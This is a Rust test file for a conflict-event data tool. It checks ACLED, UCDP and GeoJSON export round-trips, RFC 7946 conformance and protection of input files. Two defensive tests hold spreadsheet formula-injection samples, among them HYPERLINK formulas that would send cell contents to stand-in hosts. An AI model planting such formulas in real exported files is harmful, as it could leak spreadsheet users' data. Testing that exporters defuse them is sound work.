//! Writing events out: ACLED CSV and GeoJSON load back to the same events, GeoJSON follows
//! RFC 7946, and files are written whole and never over an input.

use serde_json::Value;
use sitrep::export::{ExportFormat, WriteError, write, write_atomic};
use sitrep::load::{LoadOptions, load_bytes, load_file};
use sitrep::model::Event;
use std::path::{Path, PathBuf};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures").join(name)
}

fn events(names: &[&str]) -> Vec<Event> {
    names
        .iter()
        .flat_map(|n| load_file(&fixture(n), &LoadOptions::default()).unwrap_or_else(|p| panic!("{n}: {p:?}")).events)
        .collect()
}

fn export(evs: &[Event], format: ExportFormat) -> Vec<u8> {
    let refs: Vec<&Event> = evs.iter().collect();
    let mut out = Vec::new();
    write(&refs, format, &mut out).expect("writing to memory");
    out
}

/// The events without the rows they were read from, which only the ACLED form writes back.
fn bare(evs: &[Event]) -> Vec<Event> {
    evs.iter().cloned().map(|e| Event { row: None, ..e }).collect()
}

fn reload(name: &str, bytes: &[u8]) -> Vec<Event> {
    load_bytes(name, bytes, &LoadOptions::default()).unwrap_or_else(|p| panic!("{p:?}")).events
}

#[test]
fn acled_export_loads_back_to_the_same_events() {
    for file in ["acled/current.csv", "acled/old_layout.csv"] {
        let first = events(&[file]);
        let csv = export(&first, ExportFormat::Acled);
        let second = reload("again.csv", &csv);
        assert_eq!(second, first, "{file}");
        assert_eq!(export(&second, ExportFormat::Acled), csv, "a second round writes the same bytes");
    }
}

#[test]
fn acled_export_writes_the_current_columns_and_acled_dates() {
    let csv = export(&events(&["acled/current.csv"]), ExportFormat::Acled);
    let mut rdr = csv::Reader::from_reader(&csv[..]);
    let header: Vec<String> = rdr.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(header, sitrep::formats::acled::COLUMNS);
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let dates: Vec<(&str, &str)> = rows.iter().map(|r| (&r[col("event_date")], &r[col("time_precision")])).collect();
    assert_eq!(dates[..3], [("2019-03-13", "1"), ("2019-03-14", "2"), ("2019-03-15", "3")]);
    assert_eq!(&rows[1][col("assoc_actor_1")], "NDF: National Defence Forces; Liwa al Quds");
    assert_eq!(&rows[1][col("fatalities")], "", "no figure stays no figure");
    assert_eq!(&rows[2][col("fatalities")], "0");
}

#[test]
fn ucdp_events_keep_the_low_figure_in_acled_form() {
    let ged = events(&["ucdp/ged.csv"]);
    let back = reload("ged-as-acled.csv", &export(&ged, ExportFormat::Acled));
    let killed: Vec<Option<u32>> = back.iter().map(|e| e.killed().map(|r| r.high)).collect();
    assert_eq!(killed, [Some(9), Some(5), Some(2)], "ACLED counts the lowest reported figure");
}

#[test]
fn native_json_round_trips() {
    let all = events(&["acled/current.csv", "ucdp/ged.csv", "geojson/points.geojson"]);
    assert_eq!(reload("all.json", &export(&all, ExportFormat::Json)), bare(&all));
}

#[test]
fn geojson_round_trips() {
    let all = events(&["acled/current.csv", "ucdp/ged.csv", "geojson/points.geojson"]);
    let text = export(&all, ExportFormat::GeoJson);
    assert_eq!(reload("all.geojson", &text), bare(&all));
}

/// The rules of RFC 7946 that a FeatureCollection of points must follow, checked on `doc`.
fn check_rfc7946(doc: &Value) -> Result<usize, String> {
    let obj = doc.as_object().ok_or("the top level is not an object")?;
    if obj.get("type") != Some(&Value::from("FeatureCollection")) {
        return Err("type is not FeatureCollection".into());
    }
    if obj.contains_key("crs") {
        return Err("RFC 7946 removed crs: coordinates are WGS84 longitude, latitude".into());
    }
    let features = obj.get("features").and_then(Value::as_array).ok_or("features is not an array")?;
    for (i, f) in features.iter().enumerate() {
        let f = f.as_object().ok_or(format!("feature {i} is not an object"))?;
        if f.get("type") != Some(&Value::from("Feature")) {
            return Err(format!("feature {i}: type is not Feature"));
        }
        match f.get("id") {
            None | Some(Value::String(_)) | Some(Value::Number(_)) => {}
            Some(other) => return Err(format!("feature {i}: id {other} is neither a string nor a number")),
        }
        match f.get("properties") {
            Some(Value::Object(_)) | Some(Value::Null) => {}
            _ => return Err(format!("feature {i}: properties is missing or not an object")),
        }
        match f.get("geometry") {
            Some(Value::Null) => {}
            Some(Value::Object(g)) => {
                if g.get("type") != Some(&Value::from("Point")) {
                    return Err(format!("feature {i}: geometry is not a Point"));
                }
                let c = g.get("coordinates").and_then(Value::as_array).ok_or(format!("feature {i}: no coordinates"))?;
                let nums: Vec<f64> = c.iter().filter_map(Value::as_f64).collect();
                if nums.len() != c.len() || !(2..=3).contains(&nums.len()) {
                    return Err(format!("feature {i}: a position is two or three numbers"));
                }
                if nums[0].abs() > 180.0 || nums[1].abs() > 90.0 {
                    return Err(format!("feature {i}: [{}, {}] is not [lon, lat]", nums[0], nums[1]));
                }
            }
            _ => return Err(format!("feature {i}: geometry is missing (null is allowed, absence is not)")),
        }
    }
    Ok(features.len())
}

#[test]
fn geojson_follows_rfc_7946() {
    let all = events(&["acled/current.csv", "ucdp/ged.csv", "geojson/points.geojson"]);
    let text = export(&all, ExportFormat::GeoJson);
    assert!(!text.starts_with(b"\xEF\xBB\xBF"), "RFC 7946: no byte order mark");
    let doc: Value = serde_json::from_slice(&text).unwrap();
    assert_eq!(check_rfc7946(&doc), Ok(all.len()));
    let features = doc["features"].as_array().unwrap();
    for (f, e) in features.iter().zip(&all) {
        assert_eq!(f["id"], Value::from(e.id.as_str()));
        match e.lat_lon() {
            // longitude first
            Some((lat, lon)) => assert_eq!(f["geometry"]["coordinates"], serde_json::json!([lon, lat])),
            None => assert!(f["geometry"].is_null()),
        }
    }
    let strike = &features[0]["properties"];
    assert_eq!(strike["start"], "2019-03-13T00:00:00");
    assert_eq!(strike["end"], "2019-03-14T00:00:00");
    assert_eq!(strike["killed_high"], 15);
    assert!(strike["place"].get("lat").is_none(), "the coordinates live in the geometry only");
}

#[test]
fn the_rfc_check_catches_swapped_coordinates() {
    let swapped = serde_json::json!({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [35.9, 136.6]}, "properties": {}}]});
    assert!(check_rfc7946(&swapped).unwrap_err().contains("is not [lon, lat]"));
}

#[test]
fn flat_csv_defuses_spreadsheet_formulas_in_text_only() {
    let mut all = events(&["acled/current.csv"]);
    all[0].notes = Some("=HYPERLINK(\"http://example.com/?\"&A1,\"click\")".into());
    all[0].title = "@SUM(1+1)".into();
    all[1].actors[0].name = "-Brigade".into();
    all[2].tags = vec!["+1".into()];
    all[3].place.as_mut().unwrap().lon = Some(-3.5);
    let csv = export(&all, ExportFormat::Csv);
    let mut rdr = csv::Reader::from_reader(&csv[..]);
    let header = rdr.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    let get = |r: &csv::StringRecord, name: &str| r[header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(get(&rows[0], "notes"), "'=HYPERLINK(\"http://example.com/?\"&A1,\"click\")");
    assert_eq!(get(&rows[0], "title"), "'@SUM(1+1)");
    assert_eq!(get(&rows[1], "actors"), "'-Brigade");
    assert_eq!(get(&rows[2], "tags"), "'+1");
    // numbers stay numbers
    assert_eq!(get(&rows[3], "longitude"), "-3.5");
    assert_eq!(get(&rows[4], "notes"), all[4].notes.clone().unwrap());
}

#[test]
fn flat_csv_has_one_row_per_event() {
    let all = events(&["acled/current.csv"]);
    let csv = export(&all, ExportFormat::Csv);
    let mut rdr = csv::Reader::from_reader(&csv[..]);
    let header = rdr.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 6);
    let get = |r: &csv::StringRecord, name: &str| r[header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(get(&rows[1], "date"), "2019-03-11 – 2019-03-17 (week)");
    assert_eq!(get(&rows[1], "associated"), "NDF: National Defence Forces; Liwa al Quds");
    assert_eq!(get(&rows[1], "targets"), "Hayat Tahrir al Sham; Jaish al Izza");
    assert_eq!(get(&rows[0], "killed_low"), "15");
    assert_eq!(get(&rows[0], "latitude"), "35.9306");
    assert_eq!(get(&rows[0], "country"), "Syria");
    assert!(get(&rows[0], "notes").contains('\n'), "notes keep their line breaks, quoted");
}

#[test]
fn an_export_never_replaces_an_input() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("events.csv");
    std::fs::copy(fixture("acled/current.csv"), &input).unwrap();
    let before = std::fs::read(&input).unwrap();
    let all = events(&["acled/current.csv"]);
    let refs: Vec<&Event> = all.iter().collect();
    let inputs = vec![input.clone()];
    let err = write_atomic(&input, &inputs, |w| write(&refs, ExportFormat::Acled, w)).unwrap_err();
    assert!(matches!(err, WriteError::IsInput(_)));
    assert_eq!(std::fs::read(&input).unwrap(), before);

    let out = dir.path().join("out.geojson");
    write_atomic(&out, &inputs, |w| write(&refs, ExportFormat::GeoJson, w)).unwrap();
    assert_eq!(reload("out.geojson", &std::fs::read(&out).unwrap()), bare(&all));
}

#[test]
fn format_names_parse() {
    for f in ExportFormat::ALL {
        assert_eq!(f.name().parse::<ExportFormat>(), Ok(f));
    }
    assert!("xlsx".parse::<ExportFormat>().unwrap_err().contains("json, csv, acled or geojson"));
    assert_eq!(ExportFormat::from_path(Path::new("out/idlib.GeoJSON")), Some(ExportFormat::GeoJson));
    assert_eq!(ExportFormat::from_path(Path::new("events.csv")), Some(ExportFormat::Csv));
    assert_eq!(ExportFormat::from_path(Path::new("events.ACLED.csv")), Some(ExportFormat::Acled));
    assert_eq!(ExportFormat::from_path(Path::new("events.xlsx")), None);
}

/// The records of a CSV file, every cell as written.
fn records(bytes: &[u8]) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut rdr = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    rdr.records().map(|r| r.expect("a CSV record").iter().map(str::to_string).collect()).collect()
}

/// Regression: an ACLED export written back lost disorder_type, inter1, iso, region, admin3,
/// source_scale, timestamp… and moved a month-precision row's event_date to the 15th.
#[test]
fn acled_export_writes_the_original_rows_unchanged() {
    for file in ["acled/current.csv", "acled/old_layout.csv", "real/acled-spreadsheet.csv"] {
        let original = std::fs::read(fixture(file)).unwrap();
        let written = export(&events(&[file]), ExportFormat::Acled);
        assert_eq!(records(&written), records(&original), "{file}");
    }
    // a filtered export: the rows kept, as they were
    let all = events(&["acled/current.csv"]);
    let kept: Vec<Event> = all.iter().filter(|e| e.id == "SYR51301").cloned().collect();
    let rows = records(&export(&kept, ExportFormat::Acled));
    let original = records(&std::fs::read(fixture("acled/current.csv")).unwrap());
    let month_row = original.iter().find(|r| r[0] == "SYR51301").unwrap();
    assert_eq!(rows, [original[0].clone(), month_row.clone()]);
}

/// Formulas in a file through pandas stay inert when the export is opened by a spreadsheet, and
/// load back as they were; the index column, capitals, the column twice and the extra column
/// are all kept, in order.
#[test]
fn acled_export_defuses_formulas_and_loads_back_the_same() {
    let first = events(&["real/acled-pandas.csv"]);
    let written = export(&first, ExportFormat::Acled);
    let rows = records(&written);
    let original = records(&std::fs::read(fixture("real/acled-pandas.csv")).unwrap());
    assert_eq!(rows[0], original[0], "the header as written");
    let notes = original[0].iter().position(|c| c == "NOTES").unwrap();
    assert_eq!(rows[1][notes], "'=HYPERLINK(\"http://x.example/?leak\",\"click\")");
    assert_eq!(rows[1].last().unwrap(), "'=1+1");
    assert_eq!(rows[2][notes], "'-shelled at dawn");
    assert_eq!(rows[2].last().unwrap(), "'quoted as typed", "no formula: as written");
    assert!(
        rows[1].iter().all(|c| !c.starts_with(['=', '+', '@']) && (!c.starts_with('-') || c.parse::<f64>().is_ok()))
    );
    let second = reload("again.csv", &written);
    assert_eq!(second, first, "the values load back as they were");
    assert_eq!(export(&second, ExportFormat::Acled), written);
}

/// Events of several exports and of other sources: every column of each, in order.
#[test]
fn acled_export_of_mixed_sources_keeps_every_column() {
    let mixed = events(&["acled/old_layout.csv", "acled/current.csv", "ucdp/ged.csv"]);
    let rows = records(&export(&mixed, ExportFormat::Acled));
    let old = records(&std::fs::read(fixture("acled/old_layout.csv")).unwrap());
    assert_eq!(rows[0][..old[0].len()], old[0][..], "the first export's columns first");
    for c in ["disorder_type", "civilian_targeting", "tags"] {
        assert!(rows[0].iter().any(|h| h == c), "{c} from the current layout");
    }
    let back = reload("mixed.csv", &export(&mixed, ExportFormat::Acled));
    assert_eq!(back.len(), mixed.len());
    assert_eq!(bare(&back[..old.len() - 1]), bare(&mixed[..old.len() - 1]));
}

/// Regression: the flat CSV and GeoJSON kept only the killed range of UCDP events, not the best
/// estimate or the civilian deaths.
#[test]
fn flat_csv_and_geojson_keep_every_figure() {
    let ged = events(&["ucdp/ged.csv"]);
    let rows = records(&export(&ged, ExportFormat::Csv));
    let col = rows[0].iter().position(|h| h == "figures").unwrap();
    let strikes = rows.iter().find(|r| r[0] == "244702").unwrap();
    assert_eq!(strikes[col], "deaths, best estimate: 5 (UCDP GED); civilian deaths: 5 (UCDP GED)");
    let doc: Value = serde_json::from_slice(&export(&ged, ExportFormat::GeoJson)).unwrap();
    let props = &doc["features"][0]["properties"];
    assert_eq!(props["figure: deaths, best estimate (UCDP GED)"], 11);
    assert_eq!(props["figure: deaths of Government of Syria (UCDP GED)"], 4);
    let back = load_bytes("ged.geojson", &export(&ged, ExportFormat::GeoJson), &LoadOptions::default()).unwrap();
    assert!(back.warnings.is_empty(), "the figures are not read back as unknown: {:?}", back.warnings);
}
